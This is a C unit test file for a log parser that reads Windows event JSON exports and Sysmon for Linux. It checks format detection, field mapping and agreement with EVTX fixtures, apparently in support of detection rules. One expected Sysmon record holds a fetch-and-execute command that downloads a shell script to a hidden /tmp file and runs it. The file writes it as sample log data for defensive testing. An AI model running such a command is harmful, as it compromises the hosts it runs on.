/*
 * test_read_winjson.c — Windows events exported as JSON, and Sysmon for Linux.
 *
 * The JSON fixtures in tests/data/windows/ are the EVTX fixtures exported in
 * three shapes (evtx_dump with #attributes, xmltodict with @Name/#text Data
 * arrays, Winlogbeat with ECS fields; see the README there), so the main
 * test reads each record both ways and requires the same native fields and
 * the same canonical fields: Sigma rules must not care which export they
 * see. Single lines with the odd shapes have their own table, in the same
 * "name=value|…" notation as test_read_evtx.c ("f.Name" = native field).
 */
#include "core/error.h"
#include "read_test.h"

extern const struct format format_winjson;
extern const struct format format_evtx;
extern const struct format format_jsonl;

static const char *data_path(const char *name)
{
	return test_data_path("windows", name);
}

/* Every event of one file, copied so that it outlives its batch. */
static void read_path(const char *path, bool fields, struct read_run *g)
{
	struct read_opts ro = {.fields = fields};
	if (read_run(g, path, NULL, &ro, read_run_keep, g))
		fail_msg("%s: %s", path, g->open_msg);
}

/* ---- probe ---- */

static void test_probe(void **state)
{
	static const struct {
		const char *head;
		int want;
	} cases[] = {
	    {"{\"Event\":{\"System\":{\"EventID\":4624}}}", 90},
	    {"[\n{\"Event\":{\"#attributes\":{},\"System\":{}}}", 90},
	    {"{\"@timestamp\":\"2024-01-01T00:00:00Z\",\"winlog\":{\"event_id\":\"1\"}}", 90},
	    {"Oct 20 11:23:45 web01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
	     "Guid=\"{x}\"/>",
	     90},
	    {"<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System>", 85},
	    {"{\"event_type\":\"dns\",\"src_ip\":\"1.2.3.4\"}", 0},
	    {"{\"Event\":\"login\"}", 0},
	    {"<Event><System><Provider Name=\"Other\"/>", 0},
	    {"", 0},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		int got = format_winjson.probe(slice_cstr(cases[i].head));
		if (got != cases[i].want)
			fail_msg("probe case %zu: %d, want %d", i, got, cases[i].want);
		if (cases[i].want) {
			int conf = 0;
			assert_ptr_equal(format_detect(slice_cstr(cases[i].head), &conf),
					 &format_winjson);
		}
	}
}

/* ---- fixture files ---- */

static const struct {
	const char *file;
	size_t events;
	uint64_t errors;
} files[] = {
    {"pass_evtx_dump_security_4624_4625.jsonl", 4, 0},
    {"pass_xmltodict_sysmon_1_3_11.jsonl", 8, 0},
    {"pass_winlogbeat_sysmon_1_3_11.jsonl", 8, 0},
    {"pass_sysmon_linux.log", 2, 0},
    /* cut JSON, bad escape, no JSON and no XML, mismatched and unclosed XML */
    {"fail_lines.jsonl", 1, 5},
};

static const struct {
	const char *file;
	size_t index;
	const char *want;
} expects[] = {
    {"pass_sysmon_linux.log", 0,
     "kind=process|event_id=1|pid=4242|host=web01|user=www-data|process=/usr/bin/curl|"
     "command_line=curl -s http://203.0.113.7/x.sh -o /tmp/.x && sh /tmp/.x \"a<b\"|"
     "parent_process=/bin/sh|parent_command_line=sh -c update|"
     "sha256=0000000000000000000000000000000000000000000000000000000000000001|"
     "time=2021-10-20T11:23:45.123456Z|f.Channel=Linux-Sysmon/Operational|f.EventID=1|"
     "f.Security_UserId=0|f.RuleName=-"},
    {"pass_sysmon_linux.log", 1,
     "kind=network|src_ip=10.1.2.3|src_port=51234|dst_ip=203.0.113.7|dst_port=80|proto=tcp|"
     "!domain"},
    {"pass_winlogbeat_sysmon_1_3_11.jsonl", 0,
     "kind=process|event_id=1|time=2019-05-21T15:32:57.286000Z|host=IEWIN7|"
     "f.winlog.event_data.Image=C:\\Windows\\System32\\cmd.exe|"
     "f.Image=C:\\Windows\\System32\\cmd.exe|f.winlog.channel=Microsoft-Windows-Sysmon/"
     "Operational|f.Channel=Microsoft-Windows-Sysmon/Operational|f.EventID=1|"
     "f.event.code=1|f.host.name=iewin7|f.process.pid=1532|f.EventRecordID=4125"},
    {"fail_lines.jsonl", 0, "event_id=4624|user=alice|f.TargetUserName=alice"},
};

static void test_fixture_files(void **state)
{
	for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
		struct read_run g;
		read_path(data_path(files[i].file), true, &g);
		assert_ptr_equal(g.fmt, &format_winjson);
		if (g.n != files[i].events || g.st.errors != files[i].errors)
			fail_msg("%s: %zu events, %llu errors; want %zu, %llu\n%s", files[i].file,
				 g.n, (unsigned long long)g.st.errors, files[i].events,
				 (unsigned long long)files[i].errors, g.diags);
		for (size_t k = 0; k < sizeof expects / sizeof expects[0]; k++) {
			if (strcmp(expects[k].file, files[i].file) != 0)
				continue;
			assert_true(expects[k].index < g.n);
			char what[160];
			snprintf(what, sizeof what, "%s[%zu]", files[i].file, expects[k].index);
			check_event(&g.ev[expects[k].index], expects[k].want, what);
		}
		read_run_free(&g);
	}
}

/* ---- the same records from EVTX and from JSON ---- */

static bool skipped_name(struct slice name, const char *const *skip)
{
	for (; skip && *skip; skip++)
		if (slice_eq_cstr(name, *skip))
			return true;
	return false;
}

/* Every native field of a (but those in skip) is in b with the same value,
 * and the canonical fields agree (time only when same_time). */
static void check_same(const struct event *a, const struct event *b, const char *const *skip,
		       bool same_time, const char *what)
{
	for (uint32_t i = 0; i < a->nfields; i++) {
		struct slice name = fieldname_str(a->fields[i].name);
		if (skipped_name(name, skip))
			continue;
		const struct field *f = event_field_get(b, a->fields[i].name);
		if (!f)
			fail_msg("%s: %.*s missing", what, SLICE_ARG(name));
		if (!slice_eq(f->value, a->fields[i].value))
			fail_msg("%s: %.*s is '%.*s', want '%.*s'", what, SLICE_ARG(name),
				 SLICE_ARG(f->value), SLICE_ARG(a->fields[i].value));
	}
	assert_int_equal(a->kind, b->kind);
	assert_int_equal(a->outcome, b->outcome);
	assert_int_equal(a->user_invalid, b->user_invalid);
	if (same_time)
		assert_true(a->time == b->time);
	assert_true(ip_equal(&a->src_ip, &b->src_ip));
	assert_true(ip_equal(&a->dst_ip, &b->dst_ip));
	for (int k = 0; k < EN_COUNT; k++) {
		assert_int_equal(event_has_num(a, k), event_has_num(b, k));
		if (event_has_num(a, k))
			assert_true(a->num[k] == b->num[k]);
	}
	for (int k = 0; k < ES_COUNT; k++)
		if (!slice_eq(a->str[k], b->str[k]))
			fail_msg("%s: %s is '%.*s' / '%.*s'", what, event_str_name(k),
				 SLICE_ARG(a->str[k]), SLICE_ARG(b->str[k]));
}

static void test_same_as_evtx(void **state)
{
	/* what Winlogbeat does not carry over from System */
	static const char *const beat_skip[] = {"TimeCreated", "Version",  "Level",     "Task",
						"Opcode",      "Keywords", "Recovered", NULL};
	static const struct {
		const char *evtx, *json;
		const char *const *skip;
		bool same_time, both_ways;
	} pairs[] = {
	    {"pass_security_4624_4625.evtx", "pass_evtx_dump_security_4624_4625.jsonl", NULL, true,
	     true},
	    {"pass_sysmon_1_3_11.evtx", "pass_xmltodict_sysmon_1_3_11.jsonl", NULL, true, true},
	    {"pass_sysmon_1_3_11.evtx", "pass_winlogbeat_sysmon_1_3_11.jsonl", beat_skip, false,
	     false},
	};
	for (size_t p = 0; p < sizeof pairs / sizeof pairs[0]; p++) {
		struct read_run x, j;
		read_path(data_path(pairs[p].evtx), true, &x);
		read_path(data_path(pairs[p].json), true, &j);
		assert_ptr_equal(x.fmt, &format_evtx);
		assert_ptr_equal(j.fmt, &format_winjson);
		assert_int_equal(x.n, j.n);
		for (size_t i = 0; i < x.n; i++) {
			char what[192];
			snprintf(what, sizeof what, "%s[%zu] vs %s", pairs[p].evtx, i,
				 pairs[p].json);
			assert_true(x.ev[i].nfields > 10);
			check_same(&x.ev[i], &j.ev[i], pairs[p].skip, pairs[p].same_time, what);
			if (pairs[p].both_ways) {
				check_same(&j.ev[i], &x.ev[i], NULL, true, what);
				assert_int_equal(x.ev[i].nfields, j.ev[i].nfields);
			}
		}
		read_run_free(&x);
		read_run_free(&j);
	}
}

/* ---- single lines ---- */

static const struct {
	const char *line;
	int rc;
	const char *want;
} lines[] = {
    /* xmltodict: text before name, a name without text, unnamed Data after */
    {"{\"Event\":{\"System\":{\"EventID\":\"4625\",\"Channel\":\"Security\"},\"EventData\":"
     "{\"Data\":[{\"#text\":\"bob\",\"@Name\":\"TargetUserName\"},{\"@Name\":\"IpAddress\"},"
     "{\"@Name\":\"SubStatus\",\"#text\":\"0xC0000064\"}]}}}",
     LINE_EVENT,
     "kind=auth|outcome=failure|user_invalid=1|user=bob|f.TargetUserName=bob|f.IpAddress=|"
     "f.SubStatus=0xC0000064|!src_ip"},
    /* unnamed Data: a string, then an array of strings */
    {"{\"Event\":{\"System\":{\"EventID\":{\"#text\":\"7036\",\"@Qualifiers\":\"16384\"},"
     "\"Provider\":{\"@Name\":\"Service Control Manager\"}},\"EventData\":{\"Data\":"
     "[\"Windows Update\",\"running\"]}}}",
     LINE_EVENT,
     "event_id=7036|f.EventID=7036|f.EventID_Qualifiers=16384|f.Data1=Windows Update|"
     "f.Data2=running|f.Data=Windows Update\nrunning|f.Provider_Name=Service Control Manager"},
    /* Winlogbeat's param1, param2: the unnamed Data elements */
    {"{\"winlog\":{\"channel\":\"Windows PowerShell\",\"event_id\":400,\"event_data\":{"
     "\"param1\":\"Available\",\"param2\":\"None\",\"param3\":\"HostApplication=powershell "
     "-enc AA\"}}}",
     LINE_EVENT,
     "event_id=400|f.Data1=Available|f.Data3=HostApplication=powershell -enc AA|"
     "f.Data=Available\nNone\nHostApplication=powershell -enc AA|"
     "f.winlog.event_data.param2=None|!f.param2"},
    /* evtx_dump: attributes, numbers, null, UserData with attributes */
    {"{\"Event\":{\"#attributes\":{\"xmlns\":\"x\"},\"System\":{\"Provider\":{\"#attributes\":"
     "{\"Name\":\"Microsoft-Windows-TerminalServices-RemoteConnectionManager\"}},\"EventID\":"
     "1149,\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2024-03-01T12:00:00.5Z\"}},"
     "\"Correlation\":null,\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-20\"}},"
     "\"Computer\":\"RDS01\"},\"UserData\":{\"EventXML\":{\"#attributes\":{\"xmlns\":\"ns\"},"
     "\"Param1\":\"admin\",\"Param2\":\"CORP\",\"Param3\":\"198.51.100.20\"}}}}",
     LINE_EVENT,
     "kind=auth|outcome=success|service=rdp|user=admin|src_ip=198.51.100.20|host=RDS01|"
     "time=2024-03-01T12:00:00.500000Z|f.Security_UserID=S-1-5-20|!f.Correlation|!f.xmlns|"
     "f.Param2=CORP|f.TimeCreated=2024-03-01T12:00:00.5Z"},
    /* flat EventData with escapes, one object per line inside an array */
    {"[{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/"
     "Operational\"},\"EventData\":{\"Image\":\"C:\\\\x\\u00e9.exe\",\"CommandLine\":\"a "
     "\\\"b\\\"\",\"Hashes\":\"SHA256=AB,MD5=CD\"}}},",
     LINE_EVENT,
     "kind=process|process=C:\\x\xc3\xa9.exe|command_line=a \"b\"|sha256=AB|md5=CD|!sha1|"
     "f.Image=C:\\x\xc3\xa9.exe"},
    /* Winlogbeat with event.code only and ECS process fields */
    {"{\"@timestamp\":\"2024-03-01T12:00:00.123Z\",\"event\":{\"code\":\"4688\",\"category\":"
     "[\"process\"]},\"winlog\":{\"channel\":\"Security\",\"event_data\":{\"NewProcessId\":"
     "\"0x1f4\"}},\"process\":{\"executable\":\"C:\\\\a.exe\",\"command_line\":\"a.exe -x\","
     "\"pid\":500,\"parent\":{\"executable\":\"C:\\\\p.exe\"}},\"user\":{\"name\":\"eve\"},"
     "\"host\":{\"name\":\"ws1\"}}",
     LINE_EVENT,
     "kind=process|event_id=4688|pid=500|process=C:\\a.exe|command_line=a.exe -x|"
     "parent_process=C:\\p.exe|user=eve|host=ws1|time=2024-03-01T12:00:00.123000Z|f.EventID=4688|"
     "f.NewProcessId=0x1f4|f.winlog.event_data.NewProcessId=0x1f4|f.process.pid=500"},
    /* ECS network event with nothing Windows-specific */
    {"{\"winlog\":{\"api\":\"wineventlog\"},\"event\":{\"category\":\"network\",\"outcome\":"
     "\"success\"},\"source\":{\"ip\":\"10.0.0.1\",\"port\":5000},\"destination\":{\"ip\":"
     "\"10.0.0.2\",\"port\":445},\"network\":{\"transport\":\"tcp\"}}",
     LINE_EVENT,
     "kind=network|outcome=success|src_ip=10.0.0.1|src_port=5000|dst_ip=10.0.0.2|"
     "dst_port=445|proto=tcp|!event_id"},
    /* a rendered Windows event on one line */
    {"<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider "
     "Name=\"Microsoft-Windows-Security-Auditing\"/><EventID>4624</EventID><Channel>Security"
     "</Channel></System><EventData><Data Name=\"TargetUserName\">carol</Data><Data "
     "Name=\"IpAddress\">192.0.2.1</Data></EventData></Event>",
     LINE_EVENT, "kind=auth|outcome=success|user=carol|src_ip=192.0.2.1|f.Channel=Security"},
    /* blank lines, array brackets */
    {"  ", LINE_SKIP, ""},
    {"[", LINE_SKIP, ""},
    {"],", LINE_SKIP, ""},
    /* rejected */
    {"{\"Event\":", AS_EPARSE, ""},
    {"{\"Event\":{\"EventData\":{\"X\":\"\\x\"}}}", AS_EPARSE, ""},
    {"plain text", AS_EPARSE, ""},
    {"host sysmon: <Event><System></Event>", AS_EPARSE, ""},
};

static void test_lines(void **state)
{
	struct arena a;
	arena_init(&a, 0);
	for (int fields = 1; fields >= 0; fields--) {
		struct read_opts ro = {.fields = fields};
		char st[64] = {0};
		assert_true(format_winjson.state_size <= sizeof st);
		assert_int_equal(format_winjson.init(st, &ro), 0);
		for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
			struct event ev;
			event_clear(&ev);
			struct diag why = {0};
			int rc = format_winjson.line(st, slice_cstr(lines[i].line), &ev, &a, &why);
			char what[64];
			snprintf(what, sizeof what, "line %zu fields=%d", i, fields);
			if (rc != lines[i].rc)
				fail_msg("%s: rc %d (%s), want %d", what, rc, why.msg, lines[i].rc);
			if (rc < 0) {
				assert_int_equal(why.code, rc);
				assert_true(why.msg[0] != 0);
			}
			if (rc != LINE_EVENT)
				continue;
			if (fields) {
				check_event(&ev, lines[i].want, what);
			} else {
				assert_int_equal(ev.nfields, 0);
				char spec[4096], keep[4096] = "", *save = NULL;
				snprintf(spec, sizeof spec, "%s", lines[i].want);
				for (char *t = strtok_r(spec, "|", &save); t;
				     t = strtok_r(NULL, "|", &save))
					if (strncmp(t, "f.", 2) && strncmp(t, "!f.", 3)) {
						strcat(keep, t);
						strcat(keep, "|");
					}
				check_event(&ev, keep, what);
			}
			arena_reset(&a);
		}
	}
	arena_free(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_probe),
	    cmocka_unit_test(test_fixture_files),
	    cmocka_unit_test(test_same_as_evtx),
	    cmocka_unit_test(test_lines),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
